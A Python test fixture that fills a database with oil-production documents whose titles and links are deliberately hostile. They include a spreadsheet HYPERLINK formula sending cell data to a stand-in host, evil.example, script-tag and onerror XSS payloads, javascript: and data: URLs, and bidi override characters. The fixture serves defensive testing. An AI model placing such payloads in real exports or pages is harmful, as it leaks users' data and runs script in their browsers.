"""A small database whose texts try what they can: formulas, markup, marks of direction, odd links."""

from pathlib import Path

from oiltrack.db import open_database
from oiltrack.facts import (
    Aspect,
    Cause,
    Document,
    Event,
    EventKind,
    Extraction,
    Fluid,
    Measure,
    Modality,
    Observation,
    Qualifier,
)
from oiltrack.jobs.workspace import make_workspace

NOW = "2026-01-02T03:04:05Z"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
ARABIC = "المؤسسة الوطنية للنفط: الإنتاج 812 ألف برميل يوميا"
BIDI = "a\u202eb\u2066c"
TITLES = {"a": FORMULA, "b": ARABIC, "c": SCRIPT, "d": BIDI}
LINKS = {
    "a": "https://example.org/a?x=1&y=%22",
    "b": "http://example.org/b",
    "c": "javascript:alert(document.domain)",
    "d": "data:text/html,<script>alert(1)</script>",
}


def hostile_database(folder: Path, *, history: bool = False) -> str:
    """Make a workspace with the four documents; return the URL of its database."""
    made = make_workspace(folder, database=None, history=history, now=NOW)
    with open_database(made.workspace.database) as database:
        for number, (key, title) in enumerate(TITLES.items()):
            document = Document(
                key=key,
                text=f"{title}. Libya pumped so much. Sharara was shut.",
                title=title,
                published=f"2026-12-{20 + number}",
                publisher=f"{title} Wire",
                url=LINKS[key],
            )
            facts = _facts(key, title, f"2026-12-{19 + number}", 812_000 + 1000 * number)
            database.save(document, facts, location=key, ingested_at=NOW, extractor="2")
    return made.workspace.database


def _facts(key: str, title: str, when: str, low: int) -> Extraction:
    shared = {
        "doc": key,
        "modality": Modality.ACTUAL,
        "quote": title,
        "start": 0,
        "end": len(title),
        "sentence": f"{title}.",
        "attribution": title,
        "confidence": 0.75,
    }
    level = Observation(
        **shared,
        entities=("libya",),
        when=when,
        measure=Measure.PRODUCTION,
        fluid=Fluid.CRUDE,
        aspect=Aspect.LEVEL,
        low=low,
        high=low,
        qualifier=Qualifier.EXACT,
    )
    change = Observation(
        **shared,
        entities=("el-feel", "sharara"),
        when="2026-12~",
        measure=Measure.PRODUCTION,
        fluid=Fluid.CRUDE,
        aspect=Aspect.CHANGE,
        low=-300_000,
        high=-250_000,
        qualifier=Qualifier.RANGE,
    )
    event = Event(
        **shared,
        entities=("sharara",),
        when=when,
        kind=EventKind.OUTAGE_START,
        cause=Cause.STRIKE,
        offline=None,
    )
    return Extraction(observations=(level, change), events=(event,))
